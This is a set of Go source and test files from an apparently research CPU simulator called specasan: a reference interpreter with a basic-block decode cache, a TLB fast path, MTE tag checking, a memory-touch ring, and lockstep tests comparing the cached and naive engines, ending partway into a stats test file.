			if u.cond.Holds(ip.flags) {
				ip.pc = u.imm
				return uint64(i) + 1, ctrlTaken
			}
			ip.pc = b.addr + uint64(i+1)*isa.InstBytes
			return uint64(i) + 1, ctrlFallthrough
		case uCbz:
			ip.cycles = baseCycles + uint64(i) + 1
			if regs[u.rn] == 0 {
				ip.pc = u.imm
				return uint64(i) + 1, ctrlTaken
			}
			ip.pc = b.addr + uint64(i+1)*isa.InstBytes
			return uint64(i) + 1, ctrlFallthrough
		case uCbnz:
			ip.cycles = baseCycles + uint64(i) + 1
			if regs[u.rn] != 0 {
				ip.pc = u.imm
				return uint64(i) + 1, ctrlTaken
			}
			ip.pc = b.addr + uint64(i+1)*isa.InstBytes
			return uint64(i) + 1, ctrlFallthrough
		case uBrInd:
			ip.cycles = baseCycles + uint64(i) + 1
			ip.pc = regs[u.rn]
			return uint64(i) + 1, ctrlIndirect
		case uBlrInd:
			// Read the target before writing the link so BLR LR behaves.
			t := regs[u.rn]
			regs[isa.LR] = b.addr + uint64(i+1)*isa.InstBytes
			ip.cycles = baseCycles + uint64(i) + 1
			ip.pc = t
			return uint64(i) + 1, ctrlIndirect
		case uRetInd:
			ip.cycles = baseCycles + uint64(i) + 1
			ip.pc = regs[u.rn]
			return uint64(i) + 1, ctrlIndirect
		}
	}
	ip.cycles = baseCycles + uint64(limit)
	ip.pc = b.addr + uint64(limit)*isa.InstBytes
	return uint64(limit), ctrlFallthrough
}

// raise synchronizes pc/cycles at a stopping uop. Faults and exits leave pc
// at the stopping instruction itself, matching the naive loop, which returns
// from step before advancing pc. The stopping instruction still counts as
// retired (the naive loop reports n+1).
func (ip *Interp) raise(b *bblock, i int, baseCycles uint64, r StopReason, out *StopReason) (uint64, ctrlKind) {
	ip.cycles = baseCycles + uint64(i) + 1
	ip.pc = b.addr + uint64(i)*isa.InstBytes
	*out = r
	return uint64(i) + 1, ctrlStop
}

// --- memory fast path -------------------------------------------------------
//
// A small direct-mapped TLB caches the data and tag-lock slices of recently
// touched pages. Hits do the whole load/store (including the MTE granule
// check) without leaving the interpreter; misses fall back to the Image's
// checked slow path, which is byte-for-byte the naive engine's behaviour.
// Loads of unmapped pages are never cached and do not map them (reads of
// unmapped memory are architectural zeros and must not perturb the page
// census the differential tests compare); because entries alias live frames
// and only mapped pages are cached, external writes through the Image stay
// coherent with the TLB by construction.

const (
	mem4kMask = 4095 // mem.PageBytes - 1; compile-time checked in golden.go
	tlbWays   = 16
)

// tlbEntry caches one mapped page frame. Valid iff data != nil.
type tlbEntry struct {
	base  uint64 // stripped page base address
	data  []byte
	locks []mte.Tag
}

func (ip *Interp) refillTLB(e *tlbEntry, stripped uint64, mapIt bool) bool {
	var data []byte
	var locks []mte.Tag
	if mapIt {
		data, locks = ip.Mem.FrameFor(stripped)
	} else if data, locks = ip.Mem.FrameAt(stripped); data == nil {
		return false
	}
	e.base = stripped &^ uint64(mem4kMask)
	e.data = data
	e.locks = locks
	return true
}

// tagOK checks the MTE granule locks for an access of size bytes wholly
// inside the entry's page. It mirrors mte.Check: exact key==lock equality on
// every granule touched.
func tagOK(e *tlbEntry, addr, off, size uint64) bool {
	key := mte.Key(addr)
	g := off >> 4
	if e.locks[g] != key {
		return false
	}
	if (off&15)+size > 16 && e.locks[g+1] != key {
		return false
	}
	return true
}

func (ip *Interp) load64(addr uint64) (uint64, bool) {
	s := mte.Strip(addr)
	if ip.Touch != nil {
		ip.Touch.add(s &^ 3)
	}
	e := &ip.tlb[(s>>12)&(tlbWays-1)]
	off := s - e.base
	if e.data == nil || off > mem4kMask-7 {
		if s&mem4kMask > mem4kMask-7 || !ip.refillTLB(e, s, false) {
			return ip.slowLoad(addr, 8)
		}
		off = s & mem4kMask
	}
	if ip.MTEOn && !tagOK(e, addr, off, 8) {
		return 0, false
	}
	return binary.LittleEndian.Uint64(e.data[off : off+8]), true
}

func (ip *Interp) load8(addr uint64) (uint64, bool) {
	s := mte.Strip(addr)
	if ip.Touch != nil {
		ip.Touch.add(s &^ 3)
	}
	e := &ip.tlb[(s>>12)&(tlbWays-1)]
	off := s - e.base
	if e.data == nil || off > mem4kMask {
		if !ip.refillTLB(e, s, false) {
			return ip.slowLoad(addr, 1)
		}
		off = s & mem4kMask
	}
	if ip.MTEOn && !tagOK(e, addr, off, 1) {
		return 0, false
	}
	return uint64(e.data[off]), true
}

func (ip *Interp) store64(addr, v uint64) bool {
	s := mte.Strip(addr)
	if ip.Touch != nil {
		ip.Touch.add(s&^3 | touchWrite)
	}
	e := &ip.tlb[(s>>12)&(tlbWays-1)]
	off := s - e.base
	if e.data == nil || off > mem4kMask-7 {
		if s&mem4kMask > mem4kMask-7 {
			return ip.slowStore(addr, v, 8)
		}
		ip.refillTLB(e, s, true)
		off = s & mem4kMask
	}
	if ip.MTEOn && !tagOK(e, addr, off, 8) {
		return false
	}
	binary.LittleEndian.PutUint64(e.data[off:off+8], v)
	return true
}

func (ip *Interp) store8(addr uint64, v byte) bool {
	s := mte.Strip(addr)
	if ip.Touch != nil {
		ip.Touch.add(s&^3 | touchWrite)
	}
	e := &ip.tlb[(s>>12)&(tlbWays-1)]
	off := s - e.base
	if e.data == nil || off > mem4kMask {
		ip.refillTLB(e, s, true)
		off = s & mem4kMask
	}
	if ip.MTEOn && !tagOK(e, addr, off, 1) {
		return false
	}
	e.data[off] = v
	return true
}

// slowLoad is the miss path: the Image's checked read, identical to the
// naive engine (tag check against the authoritative store, then the read;
// unmapped pages read as zero without being mapped).
func (ip *Interp) slowLoad(addr uint64, size int) (uint64, bool) {
	if ip.MTEOn && !ip.Mem.Tags.CheckAccess(addr, size) {
		return 0, false
	}
	return ip.Mem.ReadUint(mte.Strip(addr), size), true
}

func (ip *Interp) slowStore(addr, v uint64, size int) bool {
	if ip.MTEOn && !ip.Mem.Tags.CheckAccess(addr, size) {
		return false
	}
	ip.Mem.WriteUint(mte.Strip(addr), v, size)
	return true
}

func (ip *Interp) svcPrint(imm int64) {
	switch imm {
	case 1:
		ip.output = appendDecimal(ip.output, ip.regs[isa.X0])
	case 2:
		ip.output = append(ip.output, byte(ip.regs[isa.X0]))
	}
}

// appendDecimal appends v in decimal plus a newline, the SVC #1 wire format,
// without the fmt machinery on the hot path.
func appendDecimal(dst []byte, v uint64) []byte {
	var buf [21]byte
	i := len(buf)
	for {
		i--
		buf[i] = byte('0' + v%10)
		v /= 10
		if v == 0 {
			break
		}
	}
	dst = append(dst, buf[i:]...)
	return append(dst, '\n')
}

func shlSat(v, s uint64) uint64 {
	if s >= 64 {
		return 0
	}
	return v << s
}

func shrSat(v, s uint64) uint64 {
	if s >= 64 {
		return 0
	}
	return v >> s
}

// subFlagsOnly mirrors isa's CMP flag computation for the specialized
// compare uops. isa.EvalALU remains the source of truth; TestCmpFlagsMatch
// cross-checks this against it exhaustively over sign/carry corners.
func subFlagsOnly(a, b uint64) isa.Flags {
	r := a - b
	return isa.Flags{
		N: int64(r) < 0,
		Z: r == 0,
		C: a >= b,
		V: (int64(a) >= 0) != (int64(b) >= 0) && (int64(r) >= 0) != (int64(a) >= 0),
	}
}
