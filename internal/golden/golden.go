// Package golden is the functional reference interpreter: it executes
// programs with no speculation, no caches and no timing, producing the
// architectural state the out-of-order core must converge to. Differential
// tests run random and hand-written programs on both and compare final
// registers and memory.
//
// The interpreter also enforces committed-path MTE semantics (a tag
// mismatch is a fault), which defines the architectural behaviour SpecASan
// extends to the speculative path.
package golden

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/isa"
	"specasan/internal/mem"
	"specasan/internal/mte"
)

// StopReason says why execution ended.
type StopReason uint8

// Stop reasons.
const (
	StopExit     StopReason = iota // SVC #0 or HLT
	StopMaxInsts                   // instruction budget exhausted
	StopTagFault                   // committed MTE tag-check fault
	StopBadPC                      // fetched a non-code address
)

var stopNames = [...]string{
	StopExit: "exit", StopMaxInsts: "max-insts",
	StopTagFault: "tag-fault", StopBadPC: "bad-pc",
}

// String names the stop reason.
func (s StopReason) String() string {
	if int(s) < len(stopNames) {
		return stopNames[s]
	}
	return fmt.Sprintf("stop(%d)", uint8(s))
}

// Result is the final architectural state of a run.
type Result struct {
	Reason   StopReason
	Insts    uint64
	PC       uint64
	Regs     [isa.NumRegs]uint64
	Flags    isa.Flags
	Output   []byte // bytes written through SVC print calls
	FaultPC  uint64 // PC of the faulting access for StopTagFault
	ExitCode uint64 // X0 at SVC #0
}

// Interp is the reference interpreter.
type Interp struct {
	Src     Source
	Mem     *mem.Image
	MTEOn   bool   // enforce tag checks on (committed) accesses
	TagSeed uint64 // IRG determinism seed; must match the timed core's

	// Touch, when set, records the run's memory touches for post-transplant
	// cache warming (touch.go). Nil (the default) costs one predictable
	// branch per memory operation.
	Touch *TouchRing

	regs   [isa.NumRegs]uint64
	flags  isa.Flags
	pc     uint64
	cycles uint64 // synthetic "cycle" count: 1 per instruction
	output []byte

	// blocks is the lazily-built basic-block decode cache (bbcache.go).
	// Keyed by block entry PC; suffix blocks appear when control enters the
	// middle of an already-decoded block.
	blocks map[uint64]*bblock

	// Direct-mapped page TLB for the load/store fast path (bbcache.go).
	tlb [tlbWays]tlbEntry
}

// The TLB fast path hardcodes the page geometry; refuse to compile if mem
// ever changes it.
var _ [0]struct{} = [mem.PageBytes - mem4kMask - 1]struct{}{}

// New returns an interpreter over prog with its data loaded into a fresh
// memory image.
func New(prog *asm.Program) *Interp {
	return NewFrom(progSource{prog})
}

// NewFrom returns an interpreter over an arbitrary instruction source — the
// seam behind New — with the source's static data loaded into a fresh image.
func NewFrom(src Source) *Interp {
	img := mem.NewImage()
	src.InitImage(img)
	return &Interp{Src: src, Mem: img, pc: src.EntryPC()}
}

// NewWithImage runs prog against an existing image (shared-state tests).
func NewWithImage(prog *asm.Program, img *mem.Image) *Interp {
	return &Interp{Src: progSource{prog}, Mem: img, pc: prog.Entry}
}

// SetReg pre-sets an architectural register before Run.
func (ip *Interp) SetReg(r isa.Reg, v uint64) {
	if r != isa.XZR {
		ip.regs[r] = v
	}
}

// Reg reads an architectural register.
func (ip *Interp) Reg(r isa.Reg) uint64 {
	if r == isa.XZR {
		return 0
	}
	return ip.regs[r]
}

func (ip *Interp) read(r isa.Reg) uint64 { return ip.Reg(r) }

func (ip *Interp) write(r isa.Reg, v uint64) {
	if r != isa.XZR && r < isa.NumRegs {
		ip.regs[r] = v
	}
}

// Run executes up to maxInsts instructions and returns the final state. It
// dispatches over the basic-block decode cache; runNaive keeps the original
// one-instruction-at-a-time loop as the in-package reference the cache is
// tested bit-identical against.
func (ip *Interp) Run(maxInsts uint64) *Result {
	var n uint64
	var reason StopReason
	b := ip.blockAt(ip.pc)
	for n < maxInsts {
		if b == nil {
			return ip.result(StopBadPC, n)
		}
		if ip.Touch != nil {
			ip.Touch.add(b.addr&^3 | touchIfetch)
		}
		limit := len(b.uops)
		if rem := maxInsts - n; uint64(limit) > rem {
			limit = int(rem)
		}
		retired, ctrl := ip.exec(b, limit, &reason)
		n += retired
		switch ctrl {
		case ctrlStop:
			return ip.result(reason, n)
		case ctrlFallthrough:
			// Fallthrough and not-taken edges land at the block's end
			// address; a budget stop mid-block lands inside it, which the
			// addr check keeps out of the chain cache (the suffix block it
			// decodes still seeds the next Run call).
			nb := b.next
			if nb == nil || nb.addr != ip.pc {
				nb = ip.blockAt(ip.pc)
				if nb != nil && nb.addr == b.endAddr() {
					b.next = nb
				}
			}
			b = nb
		case ctrlTaken:
			// Direct branches have a static target, so the taken edge is
			// cacheable on the block.
			nb := b.takenBlk
			if nb == nil || nb.addr != ip.pc {
				nb = ip.blockAt(ip.pc)
				b.takenBlk = nb
			}
			b = nb
		case ctrlIndirect:
			b = ip.blockAt(ip.pc)
		}
	}
	return ip.result(StopMaxInsts, n)
}

// runNaive is the pre-cache interpreter loop, kept verbatim as the reference
// semantics for the block-cached engine. Tests drive both engines in
// lockstep; production code always takes Run.
func (ip *Interp) runNaive(maxInsts uint64) *Result {
	for n := uint64(0); n < maxInsts; n++ {
		in := ip.Src.InstAt(ip.pc)
		if in == nil {
			return ip.result(StopBadPC, n)
		}
		ip.cycles++
		stop, reason := ip.step(in)
		if stop {
			return ip.result(reason, n+1)
		}
	}
	return ip.result(StopMaxInsts, maxInsts)
}

// State is a snapshot of the interpreter's full architectural state:
// registers, flags, PC, the program output so far, and a deep copy of memory
// including the MTE tag sidecars. It is the transplant seam for fast-forward
// sampling — cpu.NewMachineAt installs a State into a fresh cycle-accurate
// machine.
type State struct {
	PC    uint64
	Regs  [isa.NumRegs]uint64
	Flags isa.Flags
	// Insts is the cumulative instruction count since New; it is also the
	// value the synthetic MRS cycle counter would read next.
	Insts  uint64
	Output []byte
	Mem    *mem.Image
}

// Snapshot deep-copies the interpreter's architectural state. The
// interpreter remains runnable; the snapshot does not alias its memory.
func (ip *Interp) Snapshot() *State {
	st := &State{
		PC: ip.pc, Regs: ip.regs, Flags: ip.flags, Insts: ip.cycles,
		Output: append([]byte(nil), ip.output...),
		Mem:    ip.Mem.Clone(),
	}
	st.Regs[isa.XZR] = 0
	return st
}

// PC returns the current program counter.
func (ip *Interp) PC() uint64 { return ip.pc }

// Insts returns the cumulative instruction count since New.
func (ip *Interp) Insts() uint64 { return ip.cycles }

func (ip *Interp) result(reason StopReason, n uint64) *Result {
	r := &Result{Reason: reason, Insts: n, PC: ip.pc, Regs: ip.regs,
		Flags: ip.flags, Output: ip.output}
	if reason == StopTagFault {
		r.FaultPC = ip.pc
	}
	if reason == StopExit {
		r.ExitCode = ip.regs[isa.X0]
	}
	r.Regs[isa.XZR] = 0
	return r
}

func (ip *Interp) step(in *isa.Inst) (stop bool, reason StopReason) {
	next := ip.pc + isa.InstBytes
	switch in.Op {
	case isa.NOP, isa.BTI, isa.YIELD, isa.ISB, isa.DSB:
		// no architectural effect

	case isa.MOV, isa.MOVK, isa.ADD, isa.ADDS, isa.SUB, isa.SUBS, isa.CMP,
		isa.AND, isa.ORR, isa.EOR, isa.LSL, isa.LSR, isa.ASR, isa.MUL,
		isa.UDIV, isa.SDIV, isa.CSEL, isa.IRG, isa.ADDG, isa.SUBG, isa.GMI:
		rm := ip.read(in.Rm)
		if in.HasImm {
			rm = uint64(in.Imm)
		}
		res := isa.EvalALU(in, isa.ALUInputs{
			Rn: ip.read(in.Rn), Rm: rm, OldRd: ip.read(in.Rd),
			Flags: ip.flags, TagSeed: ip.TagSeed,
		})
		if in.Op != isa.CMP {
			ip.write(in.Rd, res.Value)
		}
		if res.WritesFlags {
			ip.flags = res.Flags
		}

	case isa.LDR, isa.LDRB:
		addr := isa.EffAddr(in, ip.read(in.Rn), ip.read(in.Rm))
		size := in.MemBytes()
		if ip.MTEOn && !ip.Mem.Tags.CheckAccess(addr, size) {
			return true, StopTagFault
		}
		ip.write(in.Rd, ip.Mem.ReadUint(mte.Strip(addr), size))

	case isa.STR, isa.STRB:
		addr := isa.EffAddr(in, ip.read(in.Rn), ip.read(in.Rm))
		size := in.MemBytes()
		if ip.MTEOn && !ip.Mem.Tags.CheckAccess(addr, size) {
			return true, StopTagFault
		}
		ip.Mem.WriteUint(mte.Strip(addr), ip.read(in.Rd), size)

	case isa.SWPAL:
		addr := ip.read(in.Rn)
		if ip.MTEOn && !ip.Mem.Tags.CheckAccess(addr, 8) {
			return true, StopTagFault
		}
		old := ip.Mem.ReadU64(mte.Strip(addr))
		ip.Mem.WriteU64(mte.Strip(addr), ip.read(in.Rd))
		ip.write(in.Rm, old)

	case isa.STG:
		addr := ip.read(in.Rn)
		ip.Mem.Tags.SetLock(addr, mte.Key(ip.read(in.Rd)))

	case isa.ST2G:
		addr := ip.read(in.Rn)
		t := mte.Key(ip.read(in.Rd))
		ip.Mem.Tags.SetLock(addr, t)
		ip.Mem.Tags.SetLock(mte.AlignGranule(addr)+mte.GranuleBytes, t)

	case isa.LDG:
		addr := ip.read(in.Rn)
		lock := ip.Mem.Tags.Lock(addr)
		ip.write(in.Rd, mte.WithKey(ip.read(in.Rd), lock))

	case isa.B, isa.BL, isa.BCC, isa.CBZ, isa.CBNZ, isa.BR, isa.BLR, isa.RET:
		out := isa.EvalBranch(in, ip.pc, ip.read(in.Rn), ip.flags)
		if out.WritesLink {
			ip.write(isa.LR, out.Link)
		}
		ip.pc = out.Target
		return false, 0

	case isa.MRS:
		ip.write(in.Rd, ip.cycles)

	case isa.DC:
		// cache maintenance: no architectural effect

	case isa.SVC:
		switch in.Imm {
		case 0:
			return true, StopExit
		case 1:
			ip.output = append(ip.output, []byte(fmt.Sprintf("%d\n", ip.regs[isa.X0]))...)
		case 2:
			ip.output = append(ip.output, byte(ip.regs[isa.X0]))
		}

	case isa.HLT:
		return true, StopExit
	}
	ip.pc = next
	return false, 0
}
