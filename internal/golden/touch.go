package golden

// Touch flag bits, carried in the two low bits of a ring entry. Recorded
// addresses are aligned down to 4 bytes first, so the bits are free: no
// access is smaller than a byte and no cache line smaller than a word.
const (
	touchWrite  = 1 << 0
	touchIfetch = 1 << 1
)

// TouchRing remembers the most recent memory touches of a functional run:
// the key-stripped addresses of loads, stores and basic-block fetches, with
// newer touches overwriting the oldest once the ring is full. Sampled
// simulation attaches one to the interpreter during a fast-forward and
// replays it into the detailed machine's cache hierarchy after the state
// transplant (cpu.Machine.WarmCaches), so a detailed measurement window
// starts with the cache contents the skipped instructions would have left
// behind instead of stone-cold caches.
type TouchRing struct {
	buf  []uint64
	pos  int
	full bool
}

// NewTouchRing returns a ring remembering the last n touches.
func NewTouchRing(n int) *TouchRing {
	if n <= 0 {
		n = 1
	}
	return &TouchRing{buf: make([]uint64, n)}
}

// Add records one touch explicitly — the rebuild path for rings
// deserialised from a recorded trace. The address is aligned down to 4
// bytes exactly as the interpreter's own recording does.
func (t *TouchRing) Add(addr uint64, write, ifetch bool) {
	v := addr &^ 3
	if write {
		v |= touchWrite
	}
	if ifetch {
		v |= touchIfetch
	}
	t.add(v)
}

// add records one encoded touch (aligned address | flag bits).
func (t *TouchRing) add(v uint64) {
	t.buf[t.pos] = v
	t.pos++
	if t.pos == len(t.buf) {
		t.pos = 0
		t.full = true
	}
}

// Len returns the number of touches currently held.
func (t *TouchRing) Len() int {
	if t.full {
		return len(t.buf)
	}
	return t.pos
}

// Each visits the recorded touches oldest to newest. write marks stores,
// ifetch marks basic-block entry fetches; both false is a load.
func (t *TouchRing) Each(fn func(addr uint64, write, ifetch bool)) {
	emit := func(v uint64) {
		fn(v&^3, v&touchWrite != 0, v&touchIfetch != 0)
	}
	if t.full {
		for _, v := range t.buf[t.pos:] {
			emit(v)
		}
	}
	for _, v := range t.buf[:t.pos] {
		emit(v)
	}
}
