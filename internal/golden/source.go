package golden

import (
	"specasan/internal/asm"
	"specasan/internal/isa"
	"specasan/internal/mem"
)

// Source is the instruction-stream seam of the functional interpreter: the
// basic-block decode cache and the naive reference loop both pull decoded
// instructions from it, and construction asks it to initialise the static
// memory image. It is structurally identical to internal/cpu's Frontend
// interface (this package cannot import cpu — cpu's transplant seam imports
// golden), so any concrete frontend — a freshly assembled program, a replayed
// trace — drives the interpreter and the cycle-accurate machine alike.
//
// Returned *isa.Inst values are aliases into the source's storage and must
// not be mutated; InstsFrom must return the same subslices a Program would,
// because the block cache decodes straight-line regions from them.
type Source interface {
	// EntryPC is the architectural start address.
	EntryPC() uint64
	// InstAt returns the instruction at pc, or nil when pc is not code.
	InstAt(pc uint64) *isa.Inst
	// InstsFrom returns the contiguous instruction run starting at pc
	// through the end of its code region, or nil when pc is not code.
	InstsFrom(pc uint64) []isa.Inst
	// InitImage installs the source's static data into a fresh memory image.
	InitImage(img *mem.Image)
}

// progSource adapts an assembled program to Source — the live-decode path
// New wraps. (asm.Program cannot implement Source itself: Entry is a field.)
type progSource struct{ p *asm.Program }

func (s progSource) EntryPC() uint64                { return s.p.Entry }
func (s progSource) InstAt(pc uint64) *isa.Inst     { return s.p.InstAt(pc) }
func (s progSource) InstsFrom(pc uint64) []isa.Inst { return s.p.InstsFrom(pc) }
func (s progSource) InitImage(img *mem.Image)       { img.LoadProgram(s.p) }
