// External test package: workloads imports trace, which imports golden, so
// tests that drive the interpreter over real workload kernels must live
// outside package golden to avoid an import cycle. The lockstep machinery
// itself stays internal (bbcache_test.go) and is reached through the
// Lockstep/MixedChunks test exports.
package golden_test

import (
	"fmt"
	"math/rand"
	"testing"

	"specasan/internal/golden"
	"specasan/internal/workloads"
)

func TestBlockCacheMatchesNaiveWorkloads(t *testing.T) {
	rng := rand.New(rand.NewSource(21))
	for _, name := range []string{"505.mcf_r", "508.namd_r", "520.omnetpp_r", "531.deepsjeng_r"} {
		spec := workloads.ByName(name)
		if spec == nil {
			t.Fatalf("unknown workload %s", name)
		}
		for _, tagged := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/mte=%v", name, tagged), func(t *testing.T) {
				prog, err := spec.Build(tagged, 0.1)
				if err != nil {
					t.Fatal(err)
				}
				golden.Lockstep(t, prog, tagged, 0x5eca5a, golden.MixedChunks(rng, 30))
			})
		}
	}
}
