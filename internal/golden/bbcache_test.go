package golden

import (
	"bytes"
	"math/rand"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/isa"
)

// Lockstep and MixedChunks re-export the helpers below for the external
// golden_test package: the workload-kernel lockstep test lives there because
// workloads now imports trace, which imports golden — a cycle only an
// external test package may close.
var (
	Lockstep    = lockstep
	MixedChunks = mixedChunks
)

// lockstep drives the block-cached engine and the naive reference engine
// over the same program in chunks of varying size and asserts bit-identical
// architectural state (registers, flags, PC, cycle count, output, memory
// bytes, MTE tags) at every chunk boundary — including boundaries that land
// in the middle of decoded blocks.
func lockstep(t *testing.T, prog *asm.Program, mteOn bool, seed uint64, chunks []uint64) {
	t.Helper()
	fast := New(prog)
	fast.MTEOn, fast.TagSeed = mteOn, seed
	naive := New(prog)
	naive.MTEOn, naive.TagSeed = mteOn, seed
	for ci, n := range chunks {
		rf := fast.Run(n)
		rn := naive.runNaive(n)
		if rf.Reason != rn.Reason || rf.Insts != rn.Insts || rf.PC != rn.PC ||
			rf.Regs != rn.Regs || rf.Flags != rn.Flags ||
			rf.FaultPC != rn.FaultPC || rf.ExitCode != rn.ExitCode {
			t.Fatalf("chunk %d (budget %d): fast %+v\nnaive %+v", ci, n, rf, rn)
		}
		if !bytes.Equal(rf.Output, rn.Output) {
			t.Fatalf("chunk %d: output %q vs %q", ci, rf.Output, rn.Output)
		}
		if fast.cycles != naive.cycles {
			t.Fatalf("chunk %d: cycles %d vs %d", ci, fast.cycles, naive.cycles)
		}
		diffImages(t, fast, naive)
		if rf.Reason != StopMaxInsts {
			return
		}
	}
}

func diffImages(t *testing.T, a, b *Interp) {
	t.Helper()
	pages := map[uint64]bool{}
	for _, p := range a.Mem.PageAddrs() {
		pages[p] = true
	}
	for _, p := range b.Mem.PageAddrs() {
		pages[p] = true
	}
	for p := range pages {
		for off := uint64(0); off < 4096; off += 8 {
			if av, bv := a.Mem.ReadU64(p+off), b.Mem.ReadU64(p+off); av != bv {
				t.Fatalf("mem[%#x] = %#x vs %#x", p+off, av, bv)
			}
		}
	}
	if d := a.Mem.Tags.DiffGranules(b.Mem.Tags); len(d) != 0 {
		t.Fatalf("tag granules differ: %v", d)
	}
}

// mixedChunks returns instruction budgets that deliberately straddle block
// boundaries: lots of tiny steps plus larger strides.
func mixedChunks(rng *rand.Rand, total int) []uint64 {
	var out []uint64
	for i := 0; i < total; i++ {
		switch rng.Intn(4) {
		case 0:
			out = append(out, 1)
		case 1:
			out = append(out, uint64(rng.Intn(7)+2))
		case 2:
			out = append(out, uint64(rng.Intn(100)+10))
		default:
			out = append(out, uint64(rng.Intn(5000)+100))
		}
	}
	return append(out, 1<<62)
}

func TestBlockCacheMatchesNaiveHandwritten(t *testing.T) {
	progs := map[string]string{
		"loop-sum": `
    MOV X0, #0
    MOV X1, #0
loop:
    ADD X1, X1, X0
    ADD X0, X0, #1
    CMP X0, #500
    B.LT loop
    SVC #0`,
		"call-ret-indirect": `
    MOV  X5, #0
    MOV  X6, #0
outer:
    BL   work
    ADR  X7, work2
    BLR  X7
    ADD  X6, X6, #1
    CMP  X6, #100
    B.LT outer
    SVC  #0
work:
    ADR  X8, hop
    BR   X8
hop:
    ADD  X5, X5, #3
    RET
work2:
    ADD  X5, X5, #5
    RET`,
		"mrs-and-output": `
    MOV X2, #0
ploop:
    MRS X0, CNTVCT_EL0
    SVC #1
    ADD X2, X2, #1
    CMP X2, #5
    B.LT ploop
    MOV X0, #65
    SVC #2
    SVC #0`,
		"mid-block-branch-in": `
    MOV X0, #0
    B   mid
head:
    ADD X0, X0, #1
    ADD X0, X0, #2
mid:
    ADD X0, X0, #4
    ADD X0, X0, #8
    CMP X0, #100
    B.LT head
    SVC #0`,
		"movk-shift-div": `
    MOV  X0, #1
    MOVK X0, #0xbeef, LSL #16
    MOV  X1, #7
    SDIV X2, X0, X1
    UDIV X3, X0, X1
    ASR  X4, X0, #3
    LSL  X5, X0, #70
    CSEL X6, X0, X1, EQ
    SVC  #0`,
	}
	rng := rand.New(rand.NewSource(7))
	for name, src := range progs {
		t.Run(name, func(t *testing.T) {
			prog := asm.MustAssemble(src)
			lockstep(t, prog, false, 0, mixedChunks(rng, 40))
			lockstep(t, prog, false, 0, []uint64{1 << 62})
		})
	}
}

func TestBlockCacheMatchesNaiveMTE(t *testing.T) {
	src := `
    MOV X1, #0x3000
    MOV X2, #0
    IRG X1, X1
    MOV X3, #0
tag:
    ADD X4, X1, X3
    STG X4, [X4]
    ADD X3, X3, #16
    CMP X3, #256
    B.LT tag
store:
    ADD X4, X1, X2
    STR X2, [X4]
    LDR X5, [X4]
    ADD X2, X2, #8
    CMP X2, #256
    B.LT store
    LDG X6, [X1]
    ST2G X1, [X1]
    SVC #0`
	prog := asm.MustAssemble(src)
	rng := rand.New(rand.NewSource(13))
	lockstep(t, prog, true, 0x5eca5a, mixedChunks(rng, 40))
	lockstep(t, prog, true, 99, []uint64{1 << 62})
}

func TestBlockCacheMatchesNaiveTagFault(t *testing.T) {
	// Tag the granule with IRG's pick, then access with the wrong key: both
	// engines must fault at the same instruction with the same FaultPC.
	src := `
    MOV  X1, #0x3000
    IRG  X1, X1
    STG  X1, [X1]
    ADDG X2, X1, #0, #1  ; bump the key: now mismatched
    LDR  X3, [X2]        ; must fault
    SVC  #0`
	prog := asm.MustAssemble(src)
	for _, chunks := range [][]uint64{{1 << 62}, {1, 1, 1, 1, 1, 1, 1, 1}, {3, 3, 3}} {
		lockstep(t, prog, true, 0x5eca5a, chunks)
	}
}

func TestBlockCacheMatchesNaiveBadPC(t *testing.T) {
	src := `
    MOV X7, #0x9000
    BR  X7
    SVC #0`
	prog := asm.MustAssemble(src)
	lockstep(t, prog, false, 0, []uint64{1 << 62})
	lockstep(t, prog, false, 0, []uint64{1, 1, 1, 1})
}

func TestCmpFlagsMatch(t *testing.T) {
	// subFlagsOnly (the specialized CMP uop) must agree with isa.EvalALU's
	// CMP across sign/carry/overflow corners.
	vals := []uint64{0, 1, 2, 7, 0x7fffffffffffffff, 0x8000000000000000,
		0xffffffffffffffff, 0xfffffffffffffffe, 1 << 32, 0x8000000000000001}
	in := &isa.Inst{Op: isa.CMP}
	for _, a := range vals {
		for _, b := range vals {
			want := isa.EvalALU(in, isa.ALUInputs{Rn: a, Rm: b})
			if got := subFlagsOnly(a, b); got != want.Flags {
				t.Fatalf("CMP %#x,%#x: %+v want %+v", a, b, got, want.Flags)
			}
		}
	}
}

func TestRunZeroBudget(t *testing.T) {
	prog := asm.MustAssemble(`
    MOV X0, #1
    SVC #0`)
	ip := New(prog)
	res := ip.Run(0)
	if res.Reason != StopMaxInsts || res.Insts != 0 || res.PC != prog.Entry {
		t.Fatalf("zero budget: %+v", res)
	}
	// And still resumable to completion afterwards.
	res = ip.Run(100)
	if res.Reason != StopExit || res.Regs[isa.X0] != 1 {
		t.Fatalf("resume after zero budget: %+v", res)
	}
}

func TestSnapshotDoesNotAlias(t *testing.T) {
	prog := asm.MustAssemble(`
    MOV X1, #0x3000
    MOV X2, #42
    STR X2, [X1]
    STG X1, [X1]     ; lock granule with key 0 (no-op tag) — still exercises sidecar
    MOV X0, #7
    SVC #1
    ADD X2, X2, #1
    STR X2, [X1, #8]
    SVC #0`)
	ip := New(prog)
	if r := ip.Run(5); r.Reason != StopMaxInsts {
		t.Fatalf("setup: %+v", r)
	}
	st := ip.Snapshot()
	if st.PC != ip.pc || st.Insts != 5 || st.Regs != ip.regs {
		t.Fatalf("snapshot mismatch: %+v vs pc=%#x", st, ip.pc)
	}
	before := st.Mem.ReadU64(0x3000)
	if before != 42 {
		t.Fatalf("snapshot mem = %d, want 42", before)
	}
	// Keep running the interpreter; the snapshot must not change.
	if r := ip.Run(1 << 62); r.Reason != StopExit {
		t.Fatalf("finish: %+v", r)
	}
	if got := st.Mem.ReadU64(0x3008); got != 0 {
		t.Fatalf("snapshot aliased live memory: mem[0x3008]=%d", got)
	}
	if len(st.Output) != 0 {
		t.Fatalf("snapshot output aliased: %q", st.Output)
	}
}
