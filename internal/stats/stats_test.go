package stats

import (
	"math"
	"strings"
	"testing"
	"testing/quick"
)

func TestSetBasics(t *testing.T) {
	s := NewSet("test")
	s.Inc("a")
	s.Add("a", 4)
	s.Set("b", 10)
	if s.Get("a") != 5 || s.Get("b") != 10 || s.Get("missing") != 0 {
		t.Fatal("counter values wrong")
	}
	if r := s.Ratio("a", "b"); r != 0.5 {
		t.Fatalf("ratio = %v", r)
	}
	if r := s.Ratio("a", "zero"); r != 0 {
		t.Fatal("zero denominator must yield 0")
	}
	if !strings.Contains(s.String(), "a=5") {
		t.Fatalf("String() = %s", s)
	}
}

func TestSetMerge(t *testing.T) {
	a := NewSet("a")
	a.Add("x", 3)
	b := NewSet("b")
